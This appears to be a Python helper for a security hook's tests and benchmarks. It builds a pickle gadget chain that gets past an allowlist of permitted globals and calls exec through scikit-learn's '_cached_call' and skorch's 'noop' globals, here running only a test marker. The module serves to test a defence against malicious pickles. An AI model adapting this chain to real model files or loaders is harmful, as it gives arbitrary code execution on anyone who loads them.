"""Issue 9's gadget chain, for the hook's tests and benchmarks/peers.py alike."""

from __future__ import annotations

from pathlib import Path

import sklearn
from packaging.version import Version
from payloads import _call, _g, marker_code


def cached_call_chain(marker: Path) -> bytes:
    """Issue 9's chain, naming only allowed globals: exec reached through call results.

    _cached_call(None, est, "__getattribute__", name) is getattr(est, name), and
    _cached_call(d, None, key) is d[key]. BUILD makes the function noop pass as an outlier
    detector: a __sklearn_tags__ (OneClassSVM's) for scikit-learn >= 1.6, an _estimator_type
    before; then noop.__globals__["__builtins__"]["exec"] comes back from calls, and REDUCE
    calls it.
    """
    cached_call = _g("sklearn.metrics._scorer", "_cached_call")
    if Version(sklearn.__version__) >= Version("1.6"):
        svm = _call(_g("sklearn.svm", "OneClassSVM"))
        state = b"(V__sklearn_tags__\n" + _call(
            cached_call, b"N", svm, "__getattribute__", "__sklearn_tags__"
        )
    else:
        state = b"(V_estimator_type\nVoutlier_detector\n"
    noop = _g("skorch.utils", "noop") + state + b"db"
    module_globals = _call(cached_call, b"N", noop, "__getattribute__", "__globals__")
    builtins = _call(cached_call, module_globals, b"N", "__builtins__")
    exec_ = _call(cached_call, builtins, b"N", "exec")
    return _call(exec_, marker_code(marker)) + b"."
